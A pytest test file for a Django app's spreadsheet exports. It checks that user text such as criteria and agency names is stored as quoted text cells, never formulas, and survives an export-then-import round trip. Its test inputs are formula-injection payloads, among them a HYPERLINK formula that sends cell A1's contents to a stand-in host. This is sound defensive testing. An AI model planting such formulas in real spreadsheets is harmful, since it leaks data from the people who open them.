"""Formula injection in exports (issue 10, security 2): every cell written from user text is a
text cell, never a formula, whatever the text starts with, and the text survives export ->
import unchanged."""

import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from blocs.models import Agency
from core.excel.write import append_row
from pledges.models import SectionKind
from pledges.services import criteria as services
from pledges.services import criteria_sets
from tests.workbooks import errors

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
# Texts a spreadsheet would take for a formula, an error value or a number.
TRICKY = [
    HYPERLINK,
    "=1+1",
    "-5 điểm",
    "+84 912 345 678",
    "@SUM(A1:A2)",
    "＝1+1",
    "#N/A",
    "Dòng một\n=1+1",
]


def cells(content: bytes) -> list[tuple[str, str | None, bool]]:
    """Every cell of every sheet of the file as stored: (text or value, type, has a formula)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/"):
                continue
            root = ElementTree.fromstring(archive.read(name))  # noqa: S314 (our own file)
            for cell in root.iter(f"{MAIN}c"):
                text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
                value = cell.find(f"{MAIN}v")
                content_text = text or (value.text if value is not None else "") or ""
                found.append((content_text, cell.get("t"), cell.find(f"{MAIN}f") is not None))
    return found


def assert_written_as_text(content: bytes, texts: list[str]) -> None:
    stored = cells(content)
    assert not [c for c in stored if c[2]], "no cell holds a formula"
    by_text = {text: kind for text, kind, _formula in stored}
    for text in texts:
        assert by_text.get(text) == "inlineStr", text
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    quoted = {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.quotePrefix
    }
    # Excel keeps them text when edited; "#N/A" and texts starting with a letter need no prefix.
    assert {t for t in texts if t[0] in "=+-@＝"} <= quoted


def test_a_row_of_tricky_values_is_written_as_text_and_numbers_as_numbers():
    workbook = openpyxl.Workbook()
    append_row(workbook.active, [*TRICKY, "\tabc", "\r=1+1", 5, Decimal("2.5"), None])
    output = io.BytesIO()
    workbook.save(output)
    assert_written_as_text(output.getvalue(), [*TRICKY, "\tabc"])
    stored = cells(output.getvalue())
    assert ("5", "n", False) in stored
    row = openpyxl.load_workbook(io.BytesIO(output.getvalue())).active[1]
    assert [cell.value for cell in row[: len(TRICKY) + 1]] == [*TRICKY, "\tabc"]
    assert row[len(TRICKY) + 1].value.strip() == "=1+1"  # XML reads CR as a line feed
    assert row[len(TRICKY)].quotePrefix
    assert row[len(TRICKY) + 1].quotePrefix


def test_control_characters_pasted_from_word_do_not_break_the_export():
    workbook = openpyxl.Workbook()
    append_row(workbook.active, ["Dòng một\x0bDòng hai\x07"])
    assert workbook.active["A1"].value == "Dòng một\nDòng hai"


@pytest.fixture
def tricky_set(world):
    board = world.users["board"]
    criteria_set = criteria_sets.create_criteria_set(
        actor=board, province=world.province, year=2021
    )
    section = services.add_section(
        criteria_set, actor=board, title="=1+1", kind=SectionKind.STANDARD
    )
    for text in TRICKY:
        services.add_criterion(
            section, actor=board, text=text, max_points=Decimal(1), guidance=HYPERLINK
        )
    return criteria_set


def test_the_criteria_export_writes_criteria_as_text(world, client_for, tricky_set):
    response = client_for("board").get(reverse("pledges:criteria_export", args=[tricky_set.pk]))
    assert_written_as_text(response.content, ["=1+1", *TRICKY])


def test_tricky_criteria_survive_export_then_import(world, client_for, tricky_set):
    client = client_for("board")
    exported = client.get(reverse("pledges:criteria_export", args=[tricky_set.pk])).content
    target = criteria_sets.create_criteria_set(
        actor=world.users["board"], province=world.province, year=2022
    )
    url = reverse("pledges:criteria_import", args=[target.pk])

    response = client.post(url, {"file": SimpleUploadedFile("bo.xlsx", exported)})
    assert errors(response) == {}
    confirm = reverse("pledges:criteria_import_confirm", args=[target.pk])
    client.post(confirm, {"token": response.context["token"]})

    section = target.sections.get()
    assert section.title == "=1+1"
    assert [(c.text, c.guidance) for c in section.criteria.all()] == [
        (text, HYPERLINK) for text in TRICKY
    ]


def test_the_membership_template_lists_agency_names_as_text(world, client_for):
    Agency.objects.create(province=world.province, name=HYPERLINK, short_name="=1+1")
    response = client_for("board").get(reverse("blocs:import_memberships_template"))
    assert_written_as_text(response.content, [HYPERLINK, "=1+1"])


def test_the_agency_template_holds_no_formula(client_for):
    response = client_for("board").get(reverse("blocs:import_agencies_template"))
    assert not [c for c in cells(response.content) if c[2]]
